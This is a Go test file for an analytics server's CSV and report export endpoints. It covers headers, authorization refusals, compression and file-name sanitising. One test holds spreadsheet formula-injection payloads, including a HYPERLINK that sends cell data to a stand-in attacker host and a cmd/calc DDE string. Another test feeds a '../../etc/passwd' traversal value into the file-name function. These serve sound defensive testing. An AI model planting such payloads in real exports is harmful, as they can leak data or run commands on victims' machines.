package web

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/oriel-server/oriel/internal/report"
)

const (
	exportOfShop  = "/v1/views/shop:exportReport"
	exportOfPanel = "/v1/dashboards/overview/panels/visitors:export"
)

// lines reads a file as a spreadsheet does.
func lines(t testing.TB, a answered) [][]string {
	t.Helper()
	if a.code != 200 {
		t.Fatalf("%d %s", a.code, a.body)
	}
	text, ok := strings.CutPrefix(a.body, "\ufeff")
	if !ok {
		t.Errorf("no byte order mark: %q", a.body)
	}
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	must(t, err)
	return all
}

// rowsOf reads Google's JSON as lines.
func rowsOf(t testing.TB, body []byte) [][]string {
	t.Helper()
	type values []struct{ Name, Value string }
	var rep struct {
		DimensionHeaders, MetricHeaders values
		Rows                            []struct{ DimensionValues, MetricValues values }
	}
	must(t, json.Unmarshal(body, &rep))
	line := func(parts ...values) (cells []string) {
		for _, part := range parts {
			for _, v := range part {
				cells = append(cells, v.Name+v.Value)
			}
		}
		return cells
	}
	all := [][]string{line(rep.DimensionHeaders, rep.MetricHeaders)}
	for _, r := range rep.Rows {
		all = append(all, line(r.DimensionValues, r.MetricValues))
	}
	return all
}

func TestExportOfAReport(t *testing.T) {
	s := newSite(t)
	a := s.do("POST", exportOfShop, runReport, bearing(s.token("shop")))
	if want := "\ufeffpageTitle,sessions\r\n</script><!-- \u2028,7\r\n"; a.code != 200 || a.body != want {
		t.Errorf("%d %q", a.code, a.body)
	}
	for name, want := range map[string]string{
		"Content-Type": "text/csv; charset=utf-8", "X-Content-Type-Options": "nosniff",
		"Content-Disposition": `attachment; filename="shop-2026-11-23T0959Z.csv"`,
		"Cache-Control":       "private, no-store", "Age": "12", "Oriel-As-Of": "2026-11-23T09:59:47Z",
		"Oriel-Freshness": "settling", "Oriel-Notices": "thresholded", "Content-Security-Policy": defaultCSP,
	} {
		wantHeader(t, a, name, want)
	}
	now := s.do("POST", "/v1/views/shop:exportRealtimeReport", `{"metrics":[{"name":"activeUsers"}]}`, bearing(s.token("shop")))
	if lines(t, now); !s.source.queries[1].Realtime {
		t.Errorf("asked %+v", s.source.queries)
	}
}

// What is shown and what is exported are one answer: the same rows of the same
// days, in the same order, asked of the source in the same words.
func TestExportOfAPanelIsWhatItShows(t *testing.T) {
	s := newSite(t)
	s.source.answer = (&library{known: map[string]*report.Report{}, asof: s.now}).answer
	token := bearing(s.boardToken())
	for _, query := range []string{"", "?range=7d", "?view=blog", "?view=blog&range=2026-11-01..2026-11-10"} {
		d := draw(t, s.do("GET", "/v1/dashboards/overview"+query, "", token).body)
		for _, p := range d.Panels {
			asked := len(s.source.queries)
			a := s.do("GET", "/v1/dashboards/overview/panels/"+p.Name+":export"+query, "", token)
			if got, want := lines(t, a), rowsOf(t, p.Report); fmt.Sprint(got) != fmt.Sprint(want) {
				t.Errorf("%s%s: %q, want %q", p.Name, query, got, want)
			}
			if len(s.source.queries) != asked+1 {
				t.Errorf("%d questions", len(s.source.queries)-asked)
			}
			name := "overview-" + p.Name + "-" + d.Range.StartDate + "-" + d.Range.EndDate
			if p.Realtime {
				name = "overview-now-2026-11-23T1000Z"
			}
			wantHeader(t, a, "Content-Disposition", `attachment; filename="`+name+`.csv"`)
		}
	}
}

func TestExportOfAComparison(t *testing.T) {
	s := newSite(t)
	s.source.answer = func(_ context.Context, q report.Query) (*report.Report, error) {
		if len(q.DateRanges) != 2 || q.DateRanges[0].Name != "current" || q.DateRanges[1].Name != "previous" {
			return nil, report.Errorf(report.Invalid, "both periods: %+v", q.DateRanges)
		}
		r := s.report()
		r.Body = []byte(`{"dimensionHeaders":[{"name":"dateRange"}],"metricHeaders":[{"name":"sessions","type":"TYPE_INTEGER"}],` +
			`"rows":[{"dimensionValues":[{"value":"current"}],"metricValues":[{"value":"9"}]},{"dimensionValues":[{"value":"previous"}],"metricValues":[{"value":"4"}]}]}`)
		return r, nil
	}
	a := s.do("GET", "/v1/dashboards/overview/panels/change:export?range=7d", "", bearing(s.boardToken()))
	if got := fmt.Sprint(lines(t, a)); got != "[[dateRange sessions] [current 9] [previous 4]]" {
		t.Error(got)
	}
}

// Titles of pages are whatever somebody sent to Google.
func TestCellsCannotBecomeFormulas(t *testing.T) {
	s := newSite(t)
	titles := []string{
		`=HYPERLINK("https://evil.example/?"&A1,"more")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1", "＝1+1", "－1", " =1",
		"Shoes;=1+1", "line\n=1+1", `","=1`, `"=1"`, "plain, quoted \"title\"",
	}
	var rows []string
	for _, title := range titles {
		text, err := json.Marshal(title)
		must(t, err)
		rows = append(rows, `{"dimensionValues":[{"value":`+string(text)+`}],"metricValues":[{"value":"-7"},{"value":"=1+1"}]}`)
	}
	s.source.answer = func(context.Context, report.Query) (*report.Report, error) {
		r := s.report()
		r.Body = []byte(`{"dimensionHeaders":[{"name":"pageTitle"}],"metricHeaders":[{"name":"sessions"},{"name":"@evil"}],"rows":[` + strings.Join(rows, ",") + `]}`)
		return r, nil
	}
	token := bearing(s.minted(s.do("POST", "/v1/tokens", `{"views":["shop"],"dashboards":[{"name":"overview","views":["shop","blog"]}]}`, "Authorization: Bearer "+hostKey)))
	for _, a := range []answered{s.do("POST", exportOfShop, runReport, token), s.do("GET", exportOfPanel, "", token)} {
		all := lines(t, a)
		if len(all) != len(titles)+1 || all[0][1] != "sessions" || all[0][2] != "'@evil" {
			t.Fatalf("%q", all)
		}
		for i, line := range all[1:] {
			if strings.ReplaceAll(line[0], "'", "") != strings.ReplaceAll(titles[i], "'", "") || line[1] != "-7" || line[2] != "'=1+1" {
				t.Errorf("%q became %q", titles[i], line)
			}
			if strings.ContainsAny(line[0][:1], "=+-@\t\r\n") || strings.HasPrefix(line[0], "＝") || strings.Contains(line[0], ";=") {
				t.Errorf("%q is a formula", line[0])
			}
		}
	}
}

func TestExportsAreRefusedLikeReports(t *testing.T) {
	s := newSite(t)
	const narrow = `"filter":{"filter":{"fieldName":"country","stringFilter":{"value":"NZ"}}}}`
	shop := bearing(s.minted(s.do("POST", "/v1/tokens", `{"views":["shop"],`+narrow, "Authorization: Bearer "+hostKey)))
	board := bearing(s.minted(s.do("POST", "/v1/tokens", `{"dashboards":[{"name":"overview","views":["shop","blog"]}],`+narrow, "Authorization: Bearer "+hostKey)))
	denied := strings.Replace(runReport, "pageTitle", "city", 1)
	ordered := strings.Replace(runReport, `{"metrics"`, `{"orderBys":[{"dimension":{"dimensionName":"city"}}],"metrics"`, 1)
	for name, tt := range map[string]struct {
		method, path, body, token, origin string
		code                              int
	}{
		"a report":                     {"POST", exportOfShop, runReport, shop, "", 200},
		"of a listed page":             {"POST", exportOfShop, runReport, shop, shopOrigin, 200},
		"a panel":                      {"GET", exportOfPanel, "", board, "", 200},
		"its head":                     {"HEAD", exportOfPanel, "", board, "", 200},
		"no token":                     {"POST", exportOfShop, runReport, "X: y", "", 401},
		"no token for the panel":       {"GET", exportOfPanel, "", "X: y", "", 401},
		"a token in the address":       {"GET", exportOfPanel + "?access_token=x", "", "X: y", "", 401},
		"another view":                 {"POST", "/v1/views/secret:exportReport", runReport, shop, "", 403},
		"a denied field":               {"POST", exportOfShop, denied, shop, "", 400},
		"a denied order":               {"POST", exportOfShop, ordered, shop, "", 400},
		"another page":                 {"POST", exportOfShop, runReport, shop, otherOrigin, 403},
		"another page, a panel":        {"GET", exportOfPanel + "?view=shop", "", board, otherOrigin, 403},
		"a view's token for a panel":   {"GET", exportOfPanel, "", shop, "", 403},
		"a board's token for a report": {"POST", exportOfShop, runReport, board, "", 403},
		"another board":                {"GET", "/v1/dashboards/private/panels/visitors:export", "", board, "", 403},
		"another view of the board":    {"GET", exportOfPanel + "?view=secret", "", board, "", 403},
		"no such panel":                {"GET", "/v1/dashboards/overview/panels/none:export", "", board, "", 404},
		"another verb":                 {"GET", "/v1/dashboards/overview/panels/visitors:delete", "", board, "", 404},
		"another method":               {"POST", exportOfPanel, "", board, "", 405},
		"a bad range":                  {"GET", exportOfPanel + "?range=x", "", board, "", 400},
		"no question":                  {"POST", exportOfShop, "{", shop, "", 400},
		"too large":                    {"POST", exportOfShop, strings.Repeat(" ", maxReportBody+1), shop, "", 413},
	} {
		headers := []string{tt.token}
		if tt.origin != "" {
			headers = append(headers, "Origin: "+tt.origin)
		}
		a := s.do(tt.method, tt.path, tt.body, headers...)
		if a.code != tt.code {
			t.Errorf("%s: %d %s", name, a.code, a.body)
		}
		if a.code == 200 != (a.header.Get("Content-Disposition") != "") || tt.method == "HEAD" && a.body != "" {
			t.Errorf("%s: %v %q", name, a.header, a.body)
		}
	}
	for _, q := range s.source.queries {
		if q.DimensionFilter == nil || q.Property != "424242" {
			t.Errorf("not narrowed: %+v", q)
		}
	}
	exposed := s.do("GET", exportOfPanel, "", board, "Origin: "+shopOrigin).header.Get("Access-Control-Expose-Headers")
	if !strings.Contains(exposed, "Content-Disposition") {
		t.Errorf("pages cannot read the file's name: %s", exposed)
	}
}

// A large file is compressed for those who ask for it.
func TestExportsAreCompressed(t *testing.T) {
	s := newSite(t)
	rep := s.report()
	rep.Body = bytes.ReplaceAll(rep.Body, []byte("script"), bytes.Repeat([]byte("x"), 4000))
	s.source.answer = func(context.Context, report.Query) (*report.Report, error) { return rep, nil }
	token := bearing(s.token("shop"))
	plain := s.do("POST", exportOfShop, runReport, token)
	packed := s.do("POST", exportOfShop, runReport, token, "Accept-Encoding: gzip")
	wantHeader(t, packed, "Content-Encoding", "gzip")
	r, err := gzip.NewReader(strings.NewReader(packed.body))
	must(t, err)
	if text, err := io.ReadAll(r); err != nil || string(text) != plain.body {
		t.Errorf("%v: %q, %q", err, text, plain.body)
	}
}

func TestFileNames(t *testing.T) {
	for want, parts := range map[string][]string{
		"overview-visitors-2026-11-01-2026-11-30.csv": {"overview", "visitors", "2026-11-01", "2026-11-30"},
		"ga-123-2026-11-23T0959Z.csv":                 {"ga:123", "2026-11-23T0959Z"},
		"etc-passwd.csv":                              {"../../etc/passwd", ""},
		"a---x--e---b.csv":                            {"a\"\r\nx;\u202ee=\\", "b"},
		".csv":                                        {"", ""},
		strings.Repeat("a", maxFileName) + ".csv":     {strings.Repeat("a", 500)},
	} {
		if got := fileName(parts...); got != want {
			t.Errorf("%q: %q, want %q", parts, got, want)
		}
	}
}

func TestExportOfWhatIsNoTable(t *testing.T) {
	s := newSite(t)
	s.source.answer = func(context.Context, report.Query) (*report.Report, error) {
		r := s.report()
		r.Body = []byte(`{"rows":[1]}`)
		return r, nil
	}
	a := s.do("POST", exportOfShop, runReport, bearing(s.token("shop")))
	if a.code != 500 || a.failure(t).Status != "INTERNAL" || a.header.Get("Content-Disposition") != "" || a.header.Get("Age") != "" {
		t.Errorf("%d %v %s", a.code, a.header, a.body)
	}
}
